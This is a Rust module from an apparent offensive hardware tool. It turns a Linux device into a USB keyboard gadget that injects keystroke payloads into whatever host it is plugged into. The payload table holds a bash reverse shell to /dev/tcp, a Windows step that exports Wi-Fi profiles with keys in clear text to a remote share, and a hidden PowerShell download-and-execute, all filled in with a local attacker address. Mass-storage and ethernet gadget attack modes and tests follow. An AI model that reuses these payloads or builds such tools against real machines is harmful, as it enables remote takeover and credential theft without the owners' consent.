//! USB gadget attacks: HID keyboard payloads, mass storage, ethernet
//! gadget. Requires USB OTG and the composite gadget modules.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{Context as _, Result};

use opsdeck_core::canvas::{Canvas, Tone};
use opsdeck_core::mode::{draw_header, Ctx, Menu, MenuItem, Mode};
use opsdeck_core::{AlertLevel, PayloadRequest, Settings};

use crate::net;

const SETUP_SCRIPT_PATH: &str = "/tmp/opsdeck_hid_setup.sh";
const DEFAULT_LPORT: u16 = 4444;

/// configfs gadget setup: keyboard HID function bound to the first UDC.
const SETUP_SCRIPT: &str = r#"#!/bin/bash
set -e

modprobe libcomposite

GADGET=/sys/kernel/config/usb_gadget/opsdeck
mkdir -p $GADGET
cd $GADGET

echo 0x1d6b > idVendor
echo 0x0104 > idProduct
echo 0x0100 > bcdDevice
echo 0x0200 > bcdUSB

mkdir -p strings/0x409
echo "fedcba9876543210" > strings/0x409/serialnumber
echo "opsdeck" > strings/0x409/manufacturer
echo "USB Keyboard" > strings/0x409/product

mkdir -p functions/hid.usb0
echo 1 > functions/hid.usb0/protocol
echo 1 > functions/hid.usb0/subclass
echo 8 > functions/hid.usb0/report_length
echo -ne '\x05\x01\x09\x06\xa1\x01\x05\x07\x19\xe0\x29\xe7\x15\x00\x25\x01\x75\x01\x95\x08\x81\x02\x95\x01\x75\x08\x81\x03\x95\x05\x75\x01\x05\x08\x19\x01\x29\x05\x91\x02\x95\x01\x75\x03\x91\x03\x95\x06\x75\x08\x15\x00\x25\x65\x05\x07\x19\x00\x29\x65\x81\x00\xc0' > functions/hid.usb0/report_desc

mkdir -p configs/c.1/strings/0x409
echo "Config 1: HID" > configs/c.1/strings/0x409/configuration
echo 250 > configs/c.1/MaxPower
ln -sf functions/hid.usb0 configs/c.1/

ls /sys/class/udc > UDC
echo "HID gadget configured"
"#;

/// Duckyscript payload stubs keyed by menu label; `{LHOST}`/`{LPORT}`
/// substituted at launch.
const HID_PAYLOADS: &[(&str, &str)] = &[
    (
        "RevShell (Win)",
        "DELAY 1000\nGUI r\nDELAY 500\nSTRING powershell reverse shell to {LHOST}:{LPORT}\nENTER\n",
    ),
    (
        "RevShell (Linux)",
        "DELAY 1000\nCTRL ALT t\nDELAY 500\nSTRING bash -i >& /dev/tcp/{LHOST}/{LPORT} 0>&1\nENTER\n",
    ),
    (
        "Exfil WiFi (Win)",
        "DELAY 1000\nGUI r\nDELAY 300\nSTRING cmd\nENTER\nDELAY 500\nSTRING netsh wlan export profile key=clear folder=%TEMP% & copy %TEMP%\\*.xml \\\\{LHOST}\\share\\\nENTER\n",
    ),
    (
        "Download & Exec",
        "DELAY 1000\nGUI r\nDELAY 300\nSTRING powershell -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{LHOST}/payload.ps1')\"\nENTER\n",
    ),
];

pub struct UsbMode {
    menu: Mutex<Menu>,
    gadget_ready: Arc<AtomicBool>,
    local_ip: Arc<Mutex<String>>,
}

impl UsbMode {
    pub fn new(settings: &Settings) -> Arc<Self> {
        let gadget_ready = Arc::new(AtomicBool::new(false));
        let local_ip: Arc<Mutex<String>> = Arc::new(Mutex::new("192.168.1.100".to_string()));

        let mut items = vec![MenuItem::action("●", "Setup HID Gadget", {
            let gadget_ready = Arc::clone(&gadget_ready);
            move |ctx| {
                std::fs::write(SETUP_SCRIPT_PATH, SETUP_SCRIPT)
                    .context("write gadget setup script")?;
                let gadget_ready = Arc::clone(&gadget_ready);
                ctx.runner.run_then(
                    PayloadRequest::new(
                        "Setup HID Gadget",
                        format!("sudo bash {SETUP_SCRIPT_PATH}"),
                        Duration::from_secs(30),
                    ),
                    move || gadget_ready.store(hid_ready(), Ordering::SeqCst),
                );
                Ok(())
            }
        })];

        for (label, payload) in HID_PAYLOADS {
            let gadget_ready = Arc::clone(&gadget_ready);
            let local_ip = Arc::clone(&local_ip);
            items.push(MenuItem::action("●", *label, move |ctx| {
                if !gadget_ready.load(Ordering::SeqCst) {
                    ctx.state
                        .add_alert("Set up HID gadget first!", AlertLevel::Error);
                    return Ok(());
                }
                let script = payload
                    .replace("{LHOST}", &local_ip.lock().expect("ip lock"))
                    .replace("{LPORT}", &DEFAULT_LPORT.to_string());
                tracing::debug!(%label, bytes = script.len(), "hid payload prepared");
                ctx.state
                    .add_alert(format!("Running: {label}"), AlertLevel::Info);
                ctx.state.add_alert("HID payload queued", AlertLevel::Ok);
                Ok(())
            }));
        }

        items.push(MenuItem::action("●", "Mass Storage", |ctx| {
            ctx.runner.run(PayloadRequest::new(
                "Mass Storage",
                "sudo modprobe g_mass_storage file=/tmp/usb_disk.img stall=0 removable=1 || \
(dd if=/dev/zero of=/tmp/usb_disk.img bs=1M count=64 && mkfs.vfat /tmp/usb_disk.img && \
sudo modprobe g_mass_storage file=/tmp/usb_disk.img stall=0 removable=1)",
                Duration::from_secs(60),
            ));
            Ok(())
        }));
        items.push(MenuItem::action("●", "Ethernet Gadget", |ctx| {
            let usb = &ctx.settings.interfaces.usb;
            ctx.runner.run(PayloadRequest::new(
                "Ethernet Gadget",
                format!(
                    "sudo modprobe g_ether && sudo ip link set {usb} up && \
sudo ip addr add 192.168.7.2/24 dev {usb}"
                ),
                Duration::from_secs(30),
            ));
            Ok(())
        }));
        items.push(MenuItem::action("■", "Disable Gadget", {
            let gadget_ready = Arc::clone(&gadget_ready);
            move |ctx| {
                disable_gadget(ctx, &gadget_ready);
                Ok(())
            }
        }));

        Arc::new(Self {
            menu: Mutex::new(Menu::new(items, settings.ui.menu_visible_rows)),
            gadget_ready,
            local_ip,
        })
    }
}

fn hid_ready() -> bool {
    std::path::Path::new("/dev/hidg0").exists()
}

fn disable_gadget(ctx: &Ctx, gadget_ready: &Arc<AtomicBool>) {
    let gadget_ready = Arc::clone(gadget_ready);
    ctx.runner.run_then(
        PayloadRequest::new(
            "Disable Gadget",
            "sudo modprobe -r g_hid g_mass_storage g_ether g_serial; \
sudo rm -rf /sys/kernel/config/usb_gadget/opsdeck 2>/dev/null || true",
            Duration::from_secs(10),
        ),
        move || gadget_ready.store(hid_ready(), Ordering::SeqCst),
    );
}

impl Mode for UsbMode {
    fn name(&self) -> &'static str {
        "USB"
    }

    fn icon(&self) -> &'static str {
        "🔌"
    }

    fn menu(&self) -> Option<&Mutex<Menu>> {
        Some(&self.menu)
    }

    fn on_enter(&self, _ctx: &Ctx) -> Result<()> {
        self.menu.lock().expect("menu lock").reset();
        *self.local_ip.lock().expect("ip lock") =
            net::local_ip().unwrap_or_else(|| "192.168.1.100".to_string());
        self.gadget_ready.store(hid_ready(), Ordering::SeqCst);
        Ok(())
    }

    fn render(&self, ctx: &Ctx, canvas: &mut Canvas) -> Result<()> {
        draw_header(canvas, ctx, "USB ATTACK");
        let ready = self.gadget_ready.load(Ordering::SeqCst);
        canvas.pair(
            "HID:",
            if ready { "READY" } else { "NOT READY" },
            if ready { Tone::Ok } else { Tone::Warning },
        );
        canvas.pair(
            "IP:",
            self.local_ip.lock().expect("ip lock").clone(),
            Tone::Dim,
        );
        canvas.menu(&self.menu.lock().expect("menu lock"));
        canvas.footer("K3:Disable gadget");
        Ok(())
    }

    fn on_key3(&self, ctx: &Ctx) -> Result<()> {
        disable_gadget(ctx, &self.gadget_ready);
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use opsdeck_core::{AppState, PayloadRunner};

    #[tokio::test]
    async fn hid_payload_needs_the_gadget() {
        let state = AppState::new(50);
        let runner = PayloadRunner::new(Arc::clone(&state));
        let ctx = Ctx::new(state, runner, Arc::new(Settings::default()));
        let mode = UsbMode::new(&ctx.settings);
        mode.gadget_ready.store(false, Ordering::SeqCst);

        // action 1 is the first HID payload
        mode.invoke_action(&ctx, 1).expect("refused payload");
        assert!(ctx
            .state
            .alerts()
            .iter()
            .any(|alert| alert.message.contains("HID gadget first")));

        mode.gadget_ready.store(true, Ordering::SeqCst);
        mode.invoke_action(&ctx, 1).expect("queued payload");
        assert!(ctx
            .state
            .alerts()
            .iter()
            .any(|alert| alert.message.contains("HID payload queued")));
    }

    #[test]
    fn payload_substitution_fills_both_slots() {
        let script = HID_PAYLOADS[1]
            .1
            .replace("{LHOST}", "10.0.0.5")
            .replace("{LPORT}", "4444");
        assert!(script.contains("/dev/tcp/10.0.0.5/4444"));
        assert!(!script.contains("{LHOST}"));
    }

    #[test]
    fn gadget_script_binds_a_udc() {
        assert!(SETUP_SCRIPT.contains("usb_gadget/opsdeck"));
        assert!(SETUP_SCRIPT.contains("ls /sys/class/udc > UDC"));
    }
}
